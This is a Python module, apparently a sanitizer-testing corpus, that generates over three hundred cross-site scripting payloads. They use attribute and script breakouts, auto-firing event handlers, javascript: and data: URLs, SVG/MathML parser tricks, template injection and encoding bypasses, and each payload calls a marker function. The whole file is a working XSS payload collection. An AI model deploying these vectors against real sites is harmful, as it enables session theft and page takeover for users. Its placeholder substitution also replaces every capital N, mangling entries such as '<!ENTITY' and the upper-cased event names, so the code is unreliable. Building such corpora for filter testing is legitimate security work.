"""Three hundred ways to make a page run what a stranger wrote: each calls `fired(number)` where one gets through.

They come from what is known to get through somewhere: breaking out of an attribute, a comment, a script, a style;
every element that loads or moves by itself; addresses that run; other languages inside HTML (SVG, MathML); what a
browser mends into something else than was checked; templates; feeds; letters that are cut, doubled or turned.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

SELF_STARTING = (
    ("img src=x", "error"),
    ("img src=data:,", "error"),
    ("image src=x", "error"),
    ("video src=x", "error"),
    ("audio src=x", "error"),
    ("video><source src=x", "error"),
    ("input type=image src=x", "error"),
    ("object data=x:x", "error"),
    ("script src=x:x", "error"),
    ("link rel=stylesheet href=x:x", "error"),
    ("iframe src=about:blank", "load"),
    ("body", "load"),
    ("body", "pageshow"),
    ("svg", "load"),
    ("style", "load"),
    ("input autofocus", "focus"),
    ("textarea autofocus", "focus"),
    ("select autofocus", "focus"),
    ("button autofocus", "focus"),
    ("a tabindex=1 autofocus href=#", "focus"),
    ("div tabindex=1 autofocus", "focus"),
    ("details open", "toggle"),
    ("marquee", "start"),
    ("marquee loop=1", "finish"),
    ("div style=animation-name:none;animation:x", "animationstart"),
    ("dialog open", "cancel"),
    ("form><button formaction=x autofocus", "focus"),
    ("keygen autofocus", "focus"),
    ("frameset", "load"),
    ("bgsound src=x", "error"),
    ("embed src=x:x", "error"),
    ("track src=x", "error"),
    ("video autoplay", "play"),
    ("math><mi", "mouseover"),
    ("p style=position:fixed;inset:0", "mouseover"),
    ("p style=position:fixed;inset:0", "click"),
)
"""Elements, each with an event that comes by itself, or as soon as somebody moves or clicks."""

WRITTEN = ("<{tag} on{event}=fired(N)>", "<{tag}/on{event}='fired(N)'//", '<{tag}\ton{upper}\n=\r"fired(N)">')
"""The same in three hands: plainly, without blanks and an end, and with capitals and odd blanks."""

OUT_OF = (
    '">{}',
    "'>{}",
    "`>{}",
    "-->{}",
    "*/{}",
    "]]>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "</noscript>{}",
    "</template>{}",
    "</select>{}",
    "</xmp>{}",
    "</iframe>{}",
    "</svg>{}",
    "</math>{}",
    '\\">{}',
    "%>{}",
    "}}>{}",
)
"""Ways out of what somebody's words may stand in."""

INTO = ("<img src=x onerror=fired(N)>", "<svg onload=fired(N)>", "<script>fired(N)</script>")

INSIDE = (
    '" autofocus onfocus=fired(N) x="',
    "' autofocus onfocus=fired(N) x='",
    '" onmouseover=fired(N) style=position:fixed;inset:0 "',
    "x onfocus=fired(N) autofocus",
    '"><a href=javascript:fired(N) autofocus onfocus=fired(N)>x</a>',
    '";fired(N);//',
    "';fired(N);//",
    "`;fired(N);//",
    "${fired(N)}",
    "\\';fired(N);//",
    "</script><script>fired(N)//",
    "\u2028fired(N)//",
    "-fired(N)-",
    "'-fired(N)-'",
    '"-fired(N)-"',
    "+fired(N)+",
    "{{fired(N)}}",
    "{{constructor.constructor('fired(N)')()}}",
    "{% load x %}{{ fired(N) }}",
    "<%= fired(N) %>",
    "#{fired(N)}",
    "[[${fired(N)}]]",
    "{{7*7}}<script>fired(N)</script>",
    "$${fired(N)}$$",
    "@(fired(N))",
    "*{fired(N)}",
)
"""What runs where words stand inside a tag, a script or a template."""

SCHEMES = (
    "javascript:fired(N)",
    "JaVaScRiPt:fired(N)",
    "java\tscript:fired(N)",
    "java\nscript:fired(N)",
    " javascript:fired(N)",
    "\x01javascript:fired(N)",
    "javascript&colon;fired(N)",
    "javascript&#58;fired(N)",
    "&#106;avascript:fired(N)",
    "javascript://%0afired(N)",
    "javascript://example.org/%0D%0Afired(N)",
    "vbscript:fired(N)",
    "data:text/html,<script>fired(N)</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlZChOKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=fired(N)>",
    "livescript:fired(N)",
    "feed:javascript:fired(N)",
    "view-source:javascript:fired(N)",
    "blob:javascript:fired(N)",
    "//%0ajavascript:fired(N)",
)
"""Addresses that run."""

LINKED = (
    "{}",
    '<a href="{}" id=a autofocus>click</a>',
    "[click]({})",
    "[click]: {}\n\n[click]",
    "<{}>",
    '<form action="{}"><button>go</button></form>',
)
"""Ways in which words become a link."""

FOREIGN = (
    "<svg><script>fired(N)</script></svg>",
    "<svg><script href=data:,fired(N) />",
    "<svg><animate onbegin=fired(N) attributeName=x dur=1s>",
    "<svg><set onbegin=fired(N) attributename=x>",
    "<svg><a xlink:href=javascript:fired(N)><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=x onerror=fired(N) /></svg>#x' />",
    "<svg><foreignObject><img src=x onerror=fired(N)></foreignObject></svg>",
    "<svg><style><img src=x onerror=fired(N)></style></svg>",
    "<svg><title><img src=x onerror=fired(N)></title></svg>",
    "<svg><desc><img src=x onerror=fired(N)></desc></svg>",
    "<svg><p><style><g title='</style><img src=x onerror=fired(N)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fired(N)>",
    "<math href=javascript:fired(N)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=fired(N)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=fired(N)>",
    "<noscript><p title='</noscript><img src=x onerror=fired(N)>'>",
    "<table><td background=javascript:fired(N)>",
    "<base href=javascript:fired(N)//>",
    "<meta http-equiv=refresh content=0;url=javascript:fired(N)>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>fired(N)</script>'>",
    "<object data=javascript:fired(N)>",
    "<embed src=javascript:fired(N)>",
    "<iframe src=javascript:fired(N)>",
    "<iframe srcdoc='<img src=x onerror=parent.fired(N)>'>",
    "<iframe srcdoc=&lt;script&gt;parent.fired(N)&lt;/script&gt;>",
    "<template><img src=x onerror=fired(N)></template>",
    "<div><template shadowrootmode=open><img src=x onerror=fired(N)></template></div>",
    "<style>@import 'javascript:fired(N)';</style>",
    "<div style=background:url(javascript:fired(N))>x</div>",
    "<div style=width:expression(fired(N))>x</div>",
    "<link rel=import href=data:text/html,<script>fired(N)</script>>",
    "<isindex type=image src=x onerror=fired(N)>",
    "<xss id=x tabindex=1 autofocus onfocus=fired(N)>",
    "<a ping=javascript:fired(N) href=#>x</a>",
    "<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=fired(N) autofocus onfocus=fired(N)>",
    "<input type=hidden oncontentvisibilityautostatechange=fired(N) style=content-visibility:auto>",
    "<img srcset=x onerror=fired(N)>",
    "<picture><source srcset=x><img onerror=fired(N)></picture>",
    "<script type=module>fired(N)</script>",
    "<script src=data:text/javascript,fired(N)></script>",
    "<script>/*</script>*/fired(N)//",
    "<<script>fired(N)//<</script>",
    "<scr<script>ipt>fired(N)</scr</script>ipt>",
    "<SCRIPT\x0c>fired(N)</SCRIPT>",
    "<script\x00>fired(N)</script>",
    "\x3cscript\x3efired(N)\x3c/script\x3e",
    "&lt;script&gt;fired(N)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=fired(N)&amp;gt;",
    "%3Cscript%3Efired(N)%3C/script%3E",
    "＜script＞fired(N)＜/script＞",
    "<img src=x onerror\u00a0=fired(N)>",
    "<img\u3000src=x\u3000onerror=fired(N)>",
    "\u202e<img src=x onerror=fired(N)>\u202c",
    "<!--><img src=x onerror=fired(N)>-->",
    "<!--!><img src=x onerror=fired(N)>",
    "<![CDATA[<img src=x onerror=fired(N)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>fired(N)</x:script>",
    "<?xml-stylesheet href='javascript:fired(N)'?>",
    "<!DOCTYPE x [<!ENTITY e '<script>fired(N)</script>'>]>&e;",
    "<plaintext><img src=x onerror=fired(N)>",
    "<listing>&lt;img src=x onerror=fired(N)&gt;</listing>",
)
"""Other languages inside HTML, what a browser mends, what is read twice."""


def payloads() -> list[str]:
    """Return them all, each with its own number: more than three hundred, none twice."""
    return [one.replace("N", str(number)) for number, one in enumerate(dict.fromkeys(_all()))]


def _all() -> Iterator[str]:
    for (tag, event), hand in product(SELF_STARTING, WRITTEN):
        yield hand.format(tag=tag, event=event, upper=event.upper())
    yield from (out.replace("{}", into) for out, into in product(OUT_OF, INTO))
    yield from INSIDE
    yield from (linked.replace("{}", scheme) for linked, scheme in product(LINKED, SCHEMES))
    yield from FOREIGN
